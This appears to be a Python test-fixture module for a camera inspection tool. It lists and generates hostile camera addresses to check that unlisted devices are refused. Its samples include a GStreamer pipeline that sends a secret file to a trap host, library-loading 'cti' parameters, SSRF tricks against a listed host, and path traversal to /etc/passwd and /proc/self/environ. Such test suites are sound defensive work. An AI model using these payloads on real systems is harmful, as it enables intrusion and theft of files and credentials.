"""What an attacker sends: line documents that name what device.yaml does not list, as they were demonstrated and generated."""

from __future__ import annotations

from pathlib import Path
from typing import Any

from hypothesis import HealthCheck, Phase, given, seed, settings
from hypothesis import strategies as st

from edge_inspector.addresses import SCHEMES

LISTED_HOST, TRAP = "10.0.0.5", "10.9.9.9"


def demonstrated(world: Path) -> list[str]:
    """Addresses that did harm before, and their near relations."""
    canary, library = world / "canary", world / "canary" / "library.so"
    return [
        f"gst:videotestsrc num-buffers=1 ! jpegenc ! file://{canary}/written", f"gst:filesrc location={canary}/secret.png ! tcpclientsink host={TRAP}",
        f"gst:filesrc location={canary}/secret.png ! http://{TRAP}/", f"gst:belt ! file://{canary}/written", "gst:belt\n", "gst: belt",
        f"gst:videotestsrc ! tee name=t t. ! filesink location={canary}/written t.",
        f"gentl://0?cti={library}", f"gentl://?producer={library}", f"gentl://0?producer=vendor&cti={library}", f"gentl://{library}",
        f"http://{TRAP}/", f"http://{LISTED_HOST}@{TRAP}/", f"http://{TRAP}#@{LISTED_HOST}/", f"http://{LISTED_HOST}\\@{TRAP}/",
        f"http://{LISTED_HOST}:80@{TRAP}/", f"http://u:p/@{LISTED_HOST}@{TRAP}/", f"https://{TRAP}/", "http://127.0.0.1:8080/", "http://[::1]/",
        "http://0x0a090909/", "http://168364297/", f"http://[::ffff:{TRAP}]/", "http://evil.example/", f"http://{LISTED_HOST}.evil.example/",
        f"rtsp://{TRAP}/x", f"rtsp://{TRAP}:8080/x", f"rtsps://{TRAP}/x", f"RTSP://{TRAP}/x", "rtsp:evil.example/x", f"rtsp:///{TRAP}/x",
        f"gige://{TRAP}", f"aravis://{TRAP}", "gige://evil.example", "aravis://evil.example", f"u3v://{TRAP}", f"pylon://{TRAP}",
        f"dir://{canary}", f"dir:{canary}", "dir://../canary", "dir://../listed/../canary", "dir://../listed/links/out", "dir://../listed/%2e%2e/canary",
        f"dir://../listed#{canary}", f"dir://{canary}/none", "dir:///etc", "dir:///proc/self/fd", "dir:///", "dir://~", "dir://.", "dir://..",
        f"file://{canary}/secret.avi", "file://../canary/secret.avi", "file:///etc/passwd", "file://../listed/links/secret.avi",
        f"file://concat:{canary}/secret.avi", f"file://http://{TRAP}/x.avi", "file:///dev/stdin", "file:///proc/self/environ",
        "v4l2:///dev/../etc/passwd", "v4l2:///dev/null", f"v4l2://{canary}/secret.png", "v4l2:///dev/watchdog", "csi://0 ! filesink location=/tmp/x",
        f"dir:///dev/fd/../../{canary}", f"DIR://{canary}", f"dir://{canary}?loop=1", f"dir://localhost{canary}", f"ftp://{TRAP}/x", f"data:,{canary}",
    ]  # fmt: skip


def admissible() -> dict[str, dict[str, Any]]:
    """Listed addresses by station: what they lead to would be outside."""
    return {
        "redirect": {"uri": f"http://{LISTED_HOST}/redirect"}, "led": {"uri": f"rtsp://{LISTED_HOST}/redirect"},
        "list": {"uri": "file://../listed/links/list.ffconcat"}, "playlist": {"uri": "file://../listed/links/list.m3u8"},
        "numbered": {"uri": "file://../listed/links/p%25d.jpg"}, "pictures": {"uri": "dir://../listed/links/pictures"},
        "password": {"uri": f"http://{LISTED_HOST}/asks", "user": "me", "password_file": "credentials/camera"},
        "belt": {"uri": "gst:belt"}, "serial": {"uri": "aravis://evil.example"}, "gige": {"uri": f"gige://{LISTED_HOST}"},
    }  # fmt: skip


def line(version: int, stations: dict[str, dict[str, dict[str, Any]]]) -> dict[str, Any]:
    """A document: cameras by name, by station."""
    return {
        "schema": "ei.line.v1", "version": version,
        "stations": {
            name: {"trigger": "software", "product": "p", "products": {"p": f"r-{name}"}, "cameras": cameras}
            for name, cameras in stations.items()
        },
        "recipes": {
            f"r-{name}": {"cameras": {camera: {"rois": {"all": {"bundle": "tiny"}}} for camera in cameras}}
            for name, cameras in stations.items()
        },
    }  # fmt: skip


def generated(world: Path, count: int, number: int) -> list[dict[str, dict[str, Any]]]:
    """Cameras by name for so many documents, the same for the same `number`."""
    canary = world / "canary"
    places = st.sampled_from([
        str(canary), f"{canary}/secret.png", f"{canary}/secret.avi", f"{canary}/library.so", "../canary", "../listed", "../listed/links/out",
        "../listed/../canary/secret.avi", "..%2fcanary", "%2e%2e/canary", "/etc/passwd", "/etc", "/root", "/proc/1/environ", "/dev/shm", "/dev/video0",
        TRAP, LISTED_HOST, f"{LISTED_HOST}/x", f"{LISTED_HOST}:80@{TRAP}", f"{TRAP}:8080/x", f"me:pw@{TRAP}/", f"{LISTED_HOST}%00.{TRAP}", "127.0.0.1:8080",
        "localhost:8080", "evil.example", f"[::ffff:{TRAP}]", "[::1]:8080", f"{LISTED_HOST}\t@{TRAP}", "0", "", "belt", f"belt ! filesink location={canary}/written",
    ])  # fmt: skip
    separators = st.sampled_from(["://", ":", ":///", "://../listed/../", ":////", "://./"])
    options = st.sampled_from([
        "", "?loop=1", "?fps=5", f"?cti={canary}/library.so", "?producer=vendor", f"?producer={canary}/library.so", "#x", "?trigger=software", "?x", "/..",
        "/../../canary", f"|{canary}/secret.avi", " ! fakesink", f"?loop=1&cti={canary}/library.so",
    ])  # fmt: skip
    schemes = st.sampled_from([*SCHEMES, "DIR", "Http", "GST", "gentl", "gst", "dir", "file"])
    built = st.builds("{}{}{}{}".format, schemes, separators, places, options)
    spoilt = st.builds(lambda uri, at, text: uri[:at] + text + uri[at:], built, st.integers(0, 30), st.text(max_size=3))
    uris = st.one_of(st.sampled_from(demonstrated(world)), built, built, spoilt)
    more = st.fixed_dictionaries({}, optional={
        "timeout_ms": st.sampled_from([50, 1000]), "policy": st.sampled_from(["every", "latest"]), "user": st.sampled_from(["me", ""]),
        "password_file": st.sampled_from(["credentials/camera", f"{canary}/secret.png", "credentials/../../canary/secret.png"]),
        "features": st.just({"GevSCDA": 1}),
    })  # fmt: skip
    plain: st.SearchStrategy[dict[str, Any]] = st.fixed_dictionaries({})
    cameras = st.dictionaries(
        st.sampled_from(["a", "b", "c"]), st.tuples(uris, st.one_of(plain, plain, more)), min_size=1, max_size=3
    )
    made: list[dict[str, dict[str, Any]]] = []

    @seed(number)
    @settings(
        max_examples=count, database=None, phases=[Phase.generate], deadline=None, suppress_health_check=list(HealthCheck)
    )
    @given(cameras)
    def collect(drawn: dict[str, tuple[str, dict[str, Any]]]) -> None:
        made.append({name: {"uri": uri, **rest} for name, (uri, rest) in drawn.items()})

    while len(made) < count:
        collect()
    return made[:count]
